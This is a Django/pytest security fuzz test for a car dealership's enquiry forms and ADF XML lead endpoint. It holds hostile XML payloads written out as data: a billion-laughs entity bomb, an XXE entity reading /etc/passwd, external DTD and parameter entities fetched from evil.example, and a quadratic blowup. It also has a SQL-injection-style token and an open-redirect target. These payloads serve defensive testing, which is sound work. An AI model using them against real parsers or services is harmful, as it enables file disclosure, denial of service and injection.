"""The public enquiry forms (question, e-price, trade-in, contact) and the ADF endpoint under
hostile input (tests/security/fuzz.py): never a 5xx, nothing half-saved."""

from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from django.test import Client
from hypothesis import strategies as st

from dealership.messaging.models import OutboxMessage
from leads.models import AdfDocument, Customer, Lead, TradeInPhoto
from leads.services.adf import provider_key_create
from tests.inventory.factories import VehicleFactory
from tests.security.fuzz import fuzz_body, fuzz_form, hostile_email, hostile_text, mostly

pytestmark = pytest.mark.django_db

EXAMPLES = 60
ADF_EXAMPLES = 150
SAMPLE = (Path(__file__).parents[1] / "leads" / "adf" / "sample.xml").read_bytes()
ENQUIRY_MODELS = [Lead, Customer, TradeInPhoto, OutboxMessage]


@pytest.fixture(autouse=True)
def _no_rate_limit(settings):
    settings.LEADS_FORM_RATE_LIMIT = 10_000  # fuzz the form, not only the rate limit


def _one_lead(response, added):
    """An accepted enquiry is one lead, for a new or a known customer, and no stray photos."""
    assert response["Location"] == "/enquiries/thanks/"
    assert added[Lead] == 1
    assert added[Customer] in (0, 1)
    assert added[TradeInPhoto] == 0


REQUIRED = ("type", "location", "first_name", "last_name", "email", "phone")


def _bad(*values: str):
    return st.one_of(st.sampled_from(values), hostile_text())


def _enquiry_fields(location, types) -> dict:
    return {
        "type": mostly(*types),
        "location": mostly(str(location.pk), hostile=_bad("0", "-1", "99999999999999999999")),
        "vehicle": mostly("G2207", ""),
        "first_name": mostly("Lena", "Zoë"),
        "last_name": mostly("Hoffmann"),
        "email": mostly("lena.hoffmann@example.de", "", hostile=hostile_email()),
        "phone": mostly("0151 23456789", "+49 151 23456789", hostile=_bad("+1 202 555 0143")),
        "message": mostly("Is a test drive possible on Saturday?", ""),
        "marketing_consent": mostly("on", "true", ""),
        "tradein_year": mostly("2016", hostile=_bad("1949", "2101", "99999999999999999999")),
        "tradein_make": mostly("Opel"),
        "tradein_model": mostly("Astra"),
        "tradein_mileage_km": mostly("120000", hostile=_bad("-5", "1e9", "2000001")),
        "tradein_condition": mostly("good", "fair", "poor"),
        "tradein_vin": mostly("WVWZZZCDZNW123456", "", hostile=_bad("WVWZZZCDZNW12345I")),
    }


@pytest.mark.parametrize(
    ("url", "types"),
    [
        ("/enquiries/new/", ("vehicle_enquiry", "e_price")),
        ("/enquiries/new/", ("trade_in",)),
        ("/enquiries/contact/", ("general", "finance", "test_drive")),
    ],
    ids=["question-and-e-price", "trade-in", "contact"],
)
def test_enquiry_forms_survive_hostile_input(location, consultant, url, types):
    result = fuzz_form(
        Client(),
        url,
        _enquiry_fields(location, types),
        models=ENQUIRY_MODELS,
        added=_one_lead,
        always=REQUIRED,
        max_examples=EXAMPLES,
    )

    assert result.examples == EXAMPLES
    assert set(result.statuses) <= {200, 302, 400}
    assert result.accepted >= 1  # the valid mixes got through: the fuzz reached the service
    assert Lead.objects.count() == result.accepted


def test_vehicle_enquiry_form_survives_hostile_input(location, consultant):
    vehicle = VehicleFactory(location=location, stock_number="G2207")

    result = fuzz_form(
        Client(),
        f"/enquiries/vehicle/{vehicle.pk}/",
        _enquiry_fields(location, ("vehicle_enquiry", "e_price", "trade_in")),
        models=ENQUIRY_MODELS,
        added=_one_lead,
        always=REQUIRED,
        max_examples=EXAMPLES,
    )

    assert result.examples == EXAMPLES
    assert set(result.statuses) <= {200, 302, 400}
    assert result.accepted >= 1
    assert set(Lead.objects.values_list("location", flat=True)) == {location.pk}


# --- ADF over HTTP -----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE adf [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<adf><prospect><customer><contact><name part="full">&lol3;</name>
<email>a@example.de</email></contact></customer></prospect></adf>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<adf><prospect><customer><contact><name part="full">&xxe;</name>
<email>a@example.de</email></contact></customer></prospect></adf>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<adf><prospect/></adf>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE adf SYSTEM "http://evil.example/adf.dtd">
<adf><prospect><customer><contact><name part="full">Eve</name>
<email>eve@example.de</email></contact></customer></prospect></adf>"""
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE adf [<!ENTITY a "'
    + b"x" * 20_000
    + b'">]><adf><prospect><comments>'
    + b"&a;" * 2_000
    + b"</comments></prospect></adf>"
)

ADF_TEMPLATE = """<?xml version="1.0" encoding="UTF-8"?>
<adf><prospect status="{status}">
<id sequence="{sequence}" source="{source}">{id}</id>
<requestdate>{date}</requestdate>
<vehicle interest="{interest}"><year>{year}</year><make>{make}</make><model>{model}</model>
<vin>{vin}</vin><stock>{stock}</stock><odometer units="{units}">{odometer}</odometer>
<price currency="{currency}">{price}</price></vehicle>
<customer><contact><name part="first">{first}</name><name part="last">{last}</name>
<name part="full">{full}</name><email>{email}</email><phone type="cellphone">{phone}</phone>
<address><street>{street}</street><city>{city}</city><postalcode>{postal}</postalcode>
<country>{country}</country></address></contact>
<timeframe><description>{timeframe}</description></timeframe><comments>{comments}</comments>
</customer><vendor><vendorname>{vendor}</vendorname></vendor>
<provider><name>{provider}</name><service>{service}</service></provider>
</prospect></adf>"""


def _xml_value(*valid: str):
    return st.one_of(st.sampled_from(valid), hostile_text()).map(
        lambda value: escape(value, {'"': "&quot;"})
    )


@st.composite
def adf_documents(draw, key: str):
    """A valid ADF document with hostile values, or a broken or hostile one; with the right key,
    a wrong one or none."""
    kind = draw(st.sampled_from(["templated"] * 6 + ["raw", "encoding", "truncated", "hostile"]))
    if kind == "templated":
        values = {
            "status": _xml_value("new", "resend"),
            "sequence": _xml_value("1", "2", "-1", "99999999999999999999999"),
            "source": _xml_value("ExampleAutoMarket"),
            "id": _xml_value("EAM-1", "EAM-2", ""),
            "date": _xml_value("2026-10-02T18:05:00+02:00", "31/02/2026", "9999-99-99"),
            "interest": _xml_value("buy", "trade-in", "lease"),
            "year": _xml_value("2022", "99999999999999999999", "-3"),
            "make": _xml_value("Volkswagen"),
            "model": _xml_value("Golf"),
            "vin": _xml_value("WVWZZZCDZNW123456", "123"),
            "stock": _xml_value("G2207", ""),
            "units": _xml_value("km", "mi"),
            "odometer": _xml_value("31200", "99999999999999999999999", ""),
            "currency": _xml_value("EUR", "USD"),
            "price": _xml_value("23490", "23.490,00", "1e999", "99999999999999999999.99"),
            "first": _xml_value("Lena", ""),
            "last": _xml_value("Hoffmann", ""),
            "full": _xml_value("Lena Hoffmann", ""),
            "email": _xml_value("lena.hoffmann@example.de", "a@b", ""),
            "phone": _xml_value("0151 23456789", "+49 151 23456789", ""),
            "street": _xml_value("Gartenstraße 12"),
            "city": _xml_value("Leipzig"),
            "postal": _xml_value("04107"),
            "country": _xml_value("DE", "XX", ""),
            "timeframe": _xml_value("This month"),
            "comments": _xml_value("Is a test drive possible on Saturday?"),
            "vendor": _xml_value("Example Motors Leipzig", "Unknown Motors"),
            "provider": _xml_value("Example Auto Market"),
            "service": _xml_value("Used car enquiry"),
        }
        body = ADF_TEMPLATE.format(**{name: draw(value) for name, value in values.items()})
        body = body.encode()
    elif kind == "raw":
        body = draw(st.binary(max_size=600))
    elif kind == "encoding":
        codec = draw(st.sampled_from(["utf-16", "utf-16-be", "utf-32", "cp1252", "latin-1"]))
        declared = draw(st.sampled_from(["UTF-8", "ISO-8859-1", "UTF-16", "EBCDIC", "nonsense"]))
        text = SAMPLE.decode().replace('encoding="UTF-8"', f'encoding="{declared}"')
        body = text.encode(codec, errors="replace")
    elif kind == "truncated":
        body = SAMPLE[: draw(st.integers(min_value=0, max_value=len(SAMPLE) - 1))]
    else:
        body = draw(
            st.sampled_from(
                [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, QUADRATIC_BLOWUP]
            )
        )
    auth = draw(st.sampled_from(["bearer"] * 6 + ["header", "wrong", "none", "garbage"]))
    headers = {
        "bearer": {"Authorization": f"Bearer {key}"},
        "header": {"X-Api-Key": key},
        "wrong": {"X-Api-Key": key[:-2] + "xx"},
        "none": {},
        "garbage": {"Authorization": "Bearer \u202e\x00' OR 1=1 --"},
    }[auth]
    return body, headers


@pytest.fixture
def adf_provider(location):
    location.name = "Example Motors Leipzig"
    location.save(update_fields=["name"])
    _row, key = provider_key_create(name="Example Auto Market", location=location)
    return key


def test_adf_endpoint_survives_hostile_documents(client, adf_provider, consultant):
    def one_document_with_its_leads(response, added):
        assert response.status_code in (200, 201)
        assert added[Lead] == len(response.json()["created"]) <= 1

    result = fuzz_body(
        client,
        "/enquiries/adf/",
        adf_documents(adf_provider),
        content_type="application/xml",
        # A rejected document is kept (status "rejected") for the provider to be asked about,
        # so refusals may add an AdfDocument but never a lead, customer or message.
        models=[Lead, Customer, OutboxMessage],
        added=one_document_with_its_leads,
        max_examples=ADF_EXAMPLES,
    )

    assert result.examples == ADF_EXAMPLES
    assert set(result.statuses) <= {200, 201, 400, 401}
    assert result.statuses.get(401, 0) >= 1
    assert result.accepted >= 1
    assert set(AdfDocument.objects.values_list("status", flat=True)) <= {
        "imported",
        "partial",
        "rejected",
    }


@pytest.mark.parametrize("key", ["", "wrong-key", "\x00", "x" * 10_000])
def test_adf_without_a_valid_key_stores_nothing(client, adf_provider, key):
    response = client.post(
        "/enquiries/adf/", SAMPLE, content_type="application/xml", headers={"X-Api-Key": key}
    )

    assert response.status_code == 401
    assert response.json() == {"error": "unknown or revoked API key"}
    assert AdfDocument.objects.count() == 0
    assert Lead.objects.count() == 0


def test_a_huge_adf_document_gets_413_and_nothing_is_stored(client, adf_provider, settings):
    body = SAMPLE.replace(b"<comments>", b"<comments>" + b"x" * (2 * 1024 * 1024))

    response = client.post(
        "/enquiries/adf/", body, content_type="application/xml", headers={"X-Api-Key": adf_provider}
    )

    assert response.status_code == 413
    assert response.json() == {"error": "document too large"}
    assert AdfDocument.objects.count() == 0
    assert Lead.objects.count() == 0


def test_an_adf_body_over_the_request_limit_gets_a_clean_4xx(client, adf_provider, settings):
    body = b"<adf>" + b"x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1) + b"</adf>"

    response = client.post(
        "/enquiries/adf/", body, content_type="application/xml", headers={"X-Api-Key": adf_provider}
    )

    assert response.status_code in (400, 413)
    assert AdfDocument.objects.count() == 0


@pytest.mark.parametrize("target", ["inbox", "leads:inbox", "a\x00b", "//evil.example/"])
def test_a_staff_next_that_is_no_path_here_goes_to_the_inbox(consultant_client, target):
    response = consultant_client.post(
        "/staff/leads/availability/", {"available": "1", "next": target}
    )

    assert response.status_code == 302
    assert response["Location"] == "/staff/leads/"
